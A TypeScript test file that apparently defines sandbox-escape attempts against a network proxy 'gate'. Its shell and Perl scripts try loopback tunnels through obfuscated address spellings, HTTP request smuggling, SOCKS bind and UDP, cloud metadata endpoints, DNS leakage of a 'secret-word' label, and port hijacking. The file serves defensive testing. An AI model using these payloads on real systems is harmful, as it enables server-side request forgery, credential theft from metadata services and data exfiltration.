import { PROXY_PORT } from "../gate/transparent-ports.ts";
import { type Attempt, attempts } from "./attempt.ts";

/** `ask TEXT` sends it to the gate, escapes made out, and prints what comes back; nothing where there is no gate. */
const ASK = `ask() { (exec 3<>/dev/tcp/127.0.0.1/${PROXY_PORT} && printf "$1" >&3 && timeout 3 head -c 2000 <&3 | tr -d '\\000') 2>/dev/null; }`;

/** Asks for a tunnel to each target and prints what comes through it. */
const tunnels = (...targets: readonly string[]) =>
  `${ASK}; for t in ${targets.map((target) => `"${target}"`).join(" ")}; do ask "CONNECT $t HTTP/1.1\\r\\nHost: $t\\r\\n\\r\\n"; echo; done`;

const get = (target: string, host: string) =>
  `ask "GET ${target} HTTP/1.1\\r\\nHost: ${host}\\r\\nConnection: close\\r\\n\\r\\n"; echo`;

/** A word whose two bytes are a port in network order, as an escape of printf. */
const PORT_BYTES = `port=$(printf '\\\\x%02x\\\\x%02x' $((DECOY_PORT / 256)) $((DECOY_PORT % 256)))`;

/** A SOCKS5 greeting without a password, and one request (RFC 1928): command, address type and address. */
const socks = (command: string, address: string) => `ask "\\x05\\x01\\x00\\x05\\x${command}\\x00${address}$port"`;
const LOOPBACK_BYTES = "\\x01\\x7f\\x00\\x00\\x01";

/** The gate answers a SOCKS request that it grants with a second code of 0, behind the greeting's 5 0. */
const GRANTED = `| od -An -tx1 | tr -d ' \\n' | grep -q '^05000500' && echo BREACH`;

/** Getting out by way of the gate, under policy open. */
export const GATE_ATTEMPTS: readonly Attempt[] = attempts("network", [
  { title: "have the gate open a tunnel to the host's loopback", script: tunnels("127.0.0.1:$DECOY_PORT") },
  {
    title: "have the gate open a tunnel there by the name of loopback",
    script: tunnels(
      "localhost:$DECOY_PORT",
      "localhost.:$DECOY_PORT",
      "LOCALHOST:$DECOY_PORT",
      "a.localhost:$DECOY_PORT",
    ),
  },
  {
    title: "have the gate open a tunnel there by other spellings",
    script: tunnels(
      ...["2130706433", "0x7f000001", "0177.0.0.1", "127.1", "127.0.1", "0", "0.0.0.0", "0x7f.1", "127.0.0.1."].map(
        (host) => `${host}:$DECOY_PORT`,
      ),
    ),
  },
  {
    title: "have the gate open a tunnel there by IPv6 spellings",
    script: tunnels(
      "[::1]:$DECOY_PORT6",
      ...["::", "::ffff:127.0.0.1", "::127.0.0.1", "64:ff9b::127.0.0.1", "2002:7f00:1::"].map(
        (host) => `[${host}]:$DECOY_PORT`,
      ),
    ),
  },
  {
    title: "have the gate open a tunnel to the host's own address",
    script: tunnels("$DECOY_ADDRESS:$DECOY_PORT"),
  },
  {
    title: "have the gate fetch from the host's loopback",
    script: `${ASK}; ${get("http://127.0.0.1:$DECOY_PORT/", "127.0.0.1:$DECOY_PORT")}`,
  },
  {
    title: "have the gate fetch from another host than the one it is asked for",
    script: `${ASK}; ${get("http://example.org/", "127.0.0.1:$DECOY_PORT")}; ${get("/", "127.0.0.1:$DECOY_PORT")}; ${get("http://example.org@127.0.0.1:$DECOY_PORT/", "example.org")}; ${get("http://127.0.0.1:$DECOY_PORT\\\\@example.org/", "example.org")}`,
  },
  {
    title: "say two hosts to the gate, and smuggle a second request behind a first",
    script: `${ASK}; ask "GET http://127.0.0.1:$DECOY_PORT/ HTTP/1.1\\r\\nHost: example.org\\r\\nHost: 127.0.0.1:$DECOY_PORT\\r\\n\\r\\n"; ask "POST http://127.0.0.1:$DECOY_PORT/ HTTP/1.1\\r\\nHost: 127.0.0.1:$DECOY_PORT\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET / HTTP/1.1\\r\\n\\r\\n"`,
  },
  {
    title: "reach the host's loopback from a caught connection, by the name inside it",
    script:
      'for h in "127.0.0.1:$DECOY_PORT" "localhost:$DECOY_PORT"; do (exec 3<>/dev/tcp/127.0.0.1/80 && printf "GET / HTTP/1.1\\r\\nHost: $h\\r\\nConnection: close\\r\\n\\r\\n" >&3 && timeout 3 head -c 2000 <&3); done',
  },
  {
    title: "have the gate connect there by SOCKS, by address",
    script: `${ASK}; ${PORT_BYTES}; ${socks("01", LOOPBACK_BYTES)} | tr -d '\\000'`,
  },
  {
    title: "have the gate connect there by SOCKS, by name",
    script: `${ASK}; ${PORT_BYTES}; ${socks("01", "\\x03\\x09localhost")} | tr -d '\\000'`,
  },
  {
    title: "have the gate listen on the host (SOCKS BIND)",
    script: `${ASK}; ${PORT_BYTES}; ${socks("02", LOOPBACK_BYTES)} ${GRANTED}`,
  },
  {
    title: "have the gate pass datagrams (SOCKS UDP ASSOCIATE)",
    script: `${ASK}; ${PORT_BYTES}; ${socks("03", LOOPBACK_BYTES)} ${GRANTED}`,
  },
  {
    title: "have the gate ask a cloud's metadata service",
    script: `${ASK}; for t in 169.254.169.254:80 metadata.google.internal:80 [fd00:ec2::254]:80 100.100.100.200:80; do ask "CONNECT $t HTTP/1.1\\r\\nHost: $t\\r\\n\\r\\n" | grep -q -e ' 200 ' -e unreachable -e name_unresolved && echo "BREACH $t"; done`,
  },
  {
    title: "get an answer to a question that only a name server outside could answer",
    script: `perl -MSocket -e '
      for my $type (16, 15, 28, 2, 255) {
        socket(S, PF_INET, SOCK_DGRAM, 0) or exit; connect(S, sockaddr_in(53, inet_aton("127.0.0.1"))) or exit;
        my $name = join("", map { pack("C/a*", $_) } ("secret-word", "example", "com")) . chr(0);
        send(S, pack("nnnnnn", 7, 0x0100, 1, 0, 0, 0) . $name . pack("nn", $type, 1), 0) or next;
        my $r = ""; vec($r, fileno(S), 1) = 1; select($r, undef, undef, 1) or next;
        recv(S, my $a, 1500, 0); print "BREACH $type\\n" if length($a) > 8 && unpack("x6 n", $a) > 0 }' || echo NEEDS perl`,
  },
  {
    title: "take the gate's place for the hen's other programs",
    script: `perl -MSocket -e '
      for my $port (53, 80, 443, ${PROXY_PORT}) { for my $kind (SOCK_STREAM, SOCK_DGRAM) {
        next if $kind == SOCK_DGRAM && $port != 53;
        for my $address ("0.0.0.0", "127.0.0.1") {
          socket(S, PF_INET, $kind, 0) or next; setsockopt(S, SOL_SOCKET, SO_REUSEADDR, 1); setsockopt(S, SOL_SOCKET, 15, 1);
          print "BREACH $port $address\\n" if bind(S, sockaddr_in($port, inet_aton($address))) && ($kind == SOCK_DGRAM || listen(S, 1)) } } }' || echo NEEDS perl`,
  },
]);
